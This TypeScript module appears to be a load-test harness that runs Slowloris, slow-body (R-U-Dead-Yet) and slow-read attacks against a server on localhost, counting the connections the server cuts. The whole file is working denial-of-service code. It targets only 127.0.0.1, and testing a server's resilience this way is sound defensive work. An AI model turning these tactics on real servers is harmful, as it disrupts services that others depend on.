import { connect, type Socket } from "node:net";

/** Where an attack goes. */
export interface Aim {
  readonly port: number;
  readonly webhookPath: string;
}

/** One connection of an attacker: what it sends at once, and then again and again; nothing at once, nothing ever. */
interface Tactic {
  readonly begin: (aim: Aim, index: number) => string;
  readonly drip: string;
  /** Whether it takes the answers in. */
  readonly reads: boolean;
}

export interface Attack {
  /** Connections that the server has cut so far. */
  readonly cut: () => number;
  stop(): void;
}

const DRIP_MS = 2_000;
const RAMP_MS = 5_000;
const AGAIN_MS = 1_000;
const ASKING = "GET /livez HTTP/1.1\r\nhost: x\r\n\r\n";
/** One slow reader in so many asks for more than all buffers on the way hold; more of them would be a flood. */
const GREEDY_EVERY = 300;
const GREEDY_REQUESTS = 30_000;

export const TACTICS = {
  /** Slowloris; one connection in five says nothing at all. */
  "slow headers": {
    begin: ({ webhookPath }, index) => (index % 5 === 0 ? "" : `POST ${webhookPath} HTTP/1.1\r\nhost: x\r\n`),
    drip: "x-a: b\r\n",
    reads: true,
  },
  /** R-U-Dead-Yet: a body that is announced and comes byte by byte. */
  "slow body": {
    begin: ({ webhookPath }) =>
      `POST ${webhookPath} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n{`,
    drip: " ",
    reads: true,
  },
  /** Asks and asks, and takes nothing of the answers. */
  "slow read": {
    begin: (_, index) => ASKING.repeat(index % GREEDY_EVERY === 0 ? GREEDY_REQUESTS : 5),
    drip: ASKING,
    reads: false,
  },
} as const satisfies Record<string, Tactic>;

/** Keeps so many connections open at once, each anew as soon as it is cut, until it is stopped. */
export function attack(aim: Aim, { begin, drip, reads }: Tactic, connections: number): Attack {
  const sockets = new Set<Socket>();
  const silent = new WeakSet<Socket>();
  let cut = 0;
  let begun = 0;
  let stopped = false;
  const open = (): void => {
    if (stopped) return;
    const socket = connect(aim.port, "127.0.0.1");
    sockets.add(socket);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      sockets.delete(socket);
      if (stopped) return;
      cut += 1;
      setTimeout(open, AGAIN_MS);
    });
    // Whoever never reads sees that it was cut when it writes the next time.
    if (reads) socket.resume();
    else socket.pause();
    const first = begin(aim, begun++);
    if (first === "") silent.add(socket);
    else socket.write(first);
  };
  for (let n = 0; n < connections; n++) setTimeout(open, (n / connections) * RAMP_MS);
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable && !silent.has(socket)) socket.write(drip);
  }, DRIP_MS);
  return {
    cut: () => cut,
    stop() {
      stopped = true;
      clearInterval(dripping);
      for (const socket of sockets) socket.destroy();
    },
  };
}
